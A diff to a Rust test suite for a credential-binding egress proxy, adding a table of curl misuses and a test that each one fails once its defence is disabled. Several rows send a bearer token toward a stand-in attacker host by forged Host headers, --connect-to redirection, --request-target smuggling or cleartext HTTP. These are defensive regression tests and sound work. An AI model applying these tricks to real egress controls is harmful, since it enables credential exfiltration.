@@ -8,41 +8,82 @@ fn connect(target: &str, fields: &str) -> String {
     format!("CONNECT {target} HTTP/1.1\r\n{fields}\r\n")
 }
 
+/// What curl is told besides the credential, the code it must meet, and the defence that alone holds it.
+const MISUSES: &[(&[&str], &str, Option<&str>)] = &[
+    (
+        &["https://collector.attacker.example/mcp"],
+        "EGRESS_PLACEHOLDER_NOT_BOUND",
+        Some("host-match"),
+    ),
+    (
+        &["https://api.refero.design/other"],
+        "EGRESS_PATH_NOT_BOUND",
+        Some("path-match"),
+    ),
+    (
+        &["-X", "PUT", "https://api.refero.design/mcp"],
+        "EGRESS_METHOD_NOT_BOUND",
+        Some("method-match"),
+    ),
+    (
+        &["http://api.refero.design/mcp"],
+        "EGRESS_CLEARTEXT_CREDENTIAL",
+        Some("cleartext"),
+    ),
+    (
+        &["http://collector.attacker.example/x"],
+        "EGRESS_CLEARTEXT_CREDENTIAL",
+        None,
+    ),
+    (
+        &[
+            "-H",
+            "host: collector.attacker.example",
+            "https://api.refero.design/mcp",
+        ],
+        "EGRESS_AUTHORITY_MISMATCH",
+        Some("authority"),
+    ),
+    // Row 5: CONNECT names the attacker, TLS the bound host.
+    (
+        &[
+            "--connect-to",
+            "api.refero.design:443:collector.attacker.example:443",
+            "https://api.refero.design/mcp",
+        ],
+        "EGRESS_SERVER_NAME_MISMATCH",
+        Some("server-name"),
+    ),
+    // Row 6: inside, another address altogether.
+    (
+        &[
+            "--http1.1",
+            "--request-target",
+            "https://collector.attacker.example/x",
+            "https://api.refero.design/mcp",
+        ],
+        "EGRESS_AUTHORITY_MISMATCH",
+        None,
+    ),
+    (
+        &["https://unlisted.example/"],
+        "EGRESS_HOST_NOT_ALLOWED",
+        None,
+    ),
+    (
+        &["http://unlisted.example/"],
+        "EGRESS_HOST_NOT_ALLOWED",
+        None,
+    ),
+];
+
 #[tokio::test(flavor = "multi_thread")]
 async fn a_placeholder_goes_nowhere_but_to_its_binding() {
     let world = World::start().await;
     let bearer = world.bearer("agent");
-    let bound = format!("https://{BOUND}/mcp");
-    let elsewhere = format!("{BOUND}:443:{ATTACKER}:443");
-    let lying = format!("host: {ATTACKER}");
-    let (attacker, wrong_path) = (
-        format!("https://{ATTACKER}/x"),
-        format!("https://{BOUND}/other"),
-    );
-    let cleartext = format!("http://{BOUND}/mcp");
-    let cleartext_attacker = format!("http://{ATTACKER}/x");
-    for (arguments, code) in [
-        (&[attacker.as_str()][..], "EGRESS_PLACEHOLDER_NOT_BOUND"),
-        (&[&wrong_path], "EGRESS_PATH_NOT_BOUND"),
-        (&["-X", "PUT", &bound], "EGRESS_METHOD_NOT_BOUND"),
-        (&[&cleartext], "EGRESS_CLEARTEXT_CREDENTIAL"),
-        (&[&cleartext_attacker], "EGRESS_CLEARTEXT_CREDENTIAL"),
-        (&["-H", &lying, &bound], "EGRESS_AUTHORITY_MISMATCH"),
-        // Row 5: CONNECT names the attacker, TLS the bound host.
-        (
-            &["--connect-to", &elsewhere, &bound],
-            "EGRESS_SERVER_NAME_MISMATCH",
-        ),
-        // Row 6: inside, another address altogether.
-        (
-            &["--http1.1", "--request-target", &attacker, &bound],
-            "EGRESS_AUTHORITY_MISMATCH",
-        ),
-        (&["https://unlisted.example/"], "EGRESS_HOST_NOT_ALLOWED"),
-        (&["http://unlisted.example/"], "EGRESS_HOST_NOT_ALLOWED"),
-    ] {
+    for (arguments, code, _) in MISUSES {
         let before = world.stand.log.count();
-        let text = world.curl(&[&["-H", &bearer], arguments].concat());
+        let text = world.curl(&[&["-H", &bearer], *arguments].concat());
         assert!(text.contains(code), "{arguments:?}: {text}");
         assert!(
             !text.contains("miosa sandbox"),
@@ -59,6 +100,17 @@ async fn a_placeholder_goes_nowhere_but_to_its_binding() {
     let received = String::from_utf8_lossy(&world.stand.attacker.received()).into_owned();
     assert!(!received.contains("miosa-tok-"), "{received}");
     world.finish();
+}
+
+/// A test that passes without the defence it is about tests nothing.
+#[tokio::test(flavor = "multi_thread")]
+async fn each_misuse_notices_that_its_defence_is_off() {
+    for (arguments, code, defence) in MISUSES {
+        let Some(defence) = defence else { continue };
+        let world = World::without(defence).await;
+        let text = world.curl(&[&["-H", &world.bearer("agent")], *arguments].concat());
+        assert!(!text.contains(code), "{defence}: {text}");
+    }
 }
 
 #[tokio::test(flavor = "multi_thread")]
